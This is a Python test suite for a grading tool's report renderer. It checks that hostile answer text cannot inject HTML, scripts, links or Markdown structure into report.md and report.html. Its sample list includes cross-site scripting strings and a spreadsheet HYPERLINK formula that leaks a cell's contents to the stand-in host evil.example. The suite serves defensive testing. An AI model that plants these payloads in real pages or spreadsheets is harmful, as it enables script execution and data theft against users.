"""Hostile answer text (and hostile rubric names) never takes effect in report.md or report.html."""

from __future__ import annotations

import re
from dataclasses import replace
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from report_builders import INFO, book, part, row

from grader.gradebook.markdown import code_span
from grader.model import Outcome
from grader.report import REPORT_PNG, build_report, report_files
from grader.report.htmlpage import render_html
from grader.report.markdown import render_markdown

HOSTILE = (
    "<script>alert(1)</script>",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "[click](javascript:alert(1)) ![x](http://evil.example/x.png)",
    "<img src=x onerror=alert(1)>",
    "# heading\n===\n| a | b |\n- item",
    "`tick` ``two`` | pipe *bold* _em_ <!-- comment -->",
    "a & b \" ' \u202e\x00\x1b[31m\ud800",
)
ALLOWED_TAGS = frozenset({
    "html", "head", "meta", "title", "style", "body", "h1", "h2", "h3", "ul", "li", "p",
    "img", "table", "tr", "th", "td", "code", "strong",
})  # fmt: skip
_CODE_SPAN = re.compile(r"(`+)(?:(?!\1).)*?\1")


class _Tags(HTMLParser):
    """Every start tag with its attributes, and every comment, of an HTML document."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.comments: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)


def _hostile_book(texts: tuple[str, ...] = HOSTILE):
    """Every text as a wrong symbolic, numeric and choice answer, and as mistake/convention
    names and sentences; the rubric's names are hostile too."""
    info = replace(INFO, id=texts[0], title=texts[-1])
    rows = []
    for i, text in enumerate(texts):
        rows.append(
            row(f"s{i}", [
                part("q1.sym", Outcome.INCORRECT, answer=text),
                part("q1.sym", Outcome.PARTIAL, answer=text, feedback=[text],
                     detail={"mistake": text}),
                part("q1.num", Outcome.INCORRECT, answer=text),
                part("q1.text", Outcome.INCORRECT, answer=text),
                part("chain.a", Outcome.INCORRECT, answer=text, detail={"convention": text}),
            ])
        )  # fmt: skip
    return book(*rows, info=info)


def _outside_code_spans(markdown: str) -> str:
    return _CODE_SPAN.sub("", markdown)


def test_no_raw_student_text_reaches_the_html() -> None:
    page = render_html(build_report(_hostile_book()))
    assert "<script" not in page.lower()
    assert "&lt;script&gt;" in page
    parser = _Tags()
    parser.feed(page)
    assert {tag for tag, _ in parser.tags} <= ALLOWED_TAGS
    assert parser.comments == []
    images = [dict(attrs) for tag, attrs in parser.tags if tag == "img"]
    assert [image["src"] for image in images] == [REPORT_PNG]
    for _, attrs in parser.tags:
        assert not any(name.startswith("on") for name, _ in attrs)
    assert "\x00" not in page and "\x1b" not in page


def test_the_html_page_forbids_scripts() -> None:
    page = render_html(build_report(book()))
    assert "Content-Security-Policy" in page
    assert "default-src 'none'" in page


def test_answers_appear_in_markdown_only_inside_code_spans() -> None:
    md = render_markdown(build_report(_hostile_book()))
    rest = _outside_code_spans(md)
    assert "<" not in rest  # no raw HTML outside code spans (entities instead)
    assert re.search(r"(?<!\\)\[", rest.replace("![Histogram of the totals]", "")) is None
    assert re.search(r"(?<!\\)\]\(", rest.replace("](report-totals.png)", "")) is None  # no link
    for line in md.splitlines():
        assert not line.startswith(("=", "<", "|-", "# heading", "- item", "===")), line
    assert code_span(HOSTILE[1]) in md  # the example, readable, in a code span


def test_markdown_table_rows_keep_their_cell_count() -> None:
    md = render_markdown(build_report(_hostile_book()))
    for block in md.split("\n\n"):
        lines = [line for line in block.splitlines() if line.startswith("| ")]
        if not lines:
            continue
        # unescaped pipes delimit cells: every row of a table has as many as its header
        counts = {len(re.findall(r"(?<!\\)\|", line)) for line in lines}
        assert len(counts) == 1, block


def test_hostile_text_is_written_as_valid_utf8() -> None:
    for name, data in report_files(_hostile_book()):
        if name.endswith((".md", ".html")):
            assert isinstance(data, bytes)
            text = data.decode("utf-8")
            assert "\ufffd" in text  # the control characters and the lone surrogate, replaced


@pytest.mark.parametrize("text", HOSTILE)
def test_each_hostile_text_alone_renders(text: str) -> None:
    report = build_report(_hostile_book((text,)))
    assert render_markdown(report).endswith("\n")
    assert render_html(report).endswith("</html>\n")


@settings(max_examples=100, deadline=None)
@given(st.lists(st.text(min_size=1, max_size=40), min_size=1, max_size=4))
def test_arbitrary_text_never_opens_a_tag_in_the_html(texts: list[str]) -> None:
    page = render_html(build_report(_hostile_book(tuple(texts))))
    parser = _Tags()
    parser.feed(page)
    assert {tag for tag, _ in parser.tags} <= ALLOWED_TAGS
    assert parser.comments == []
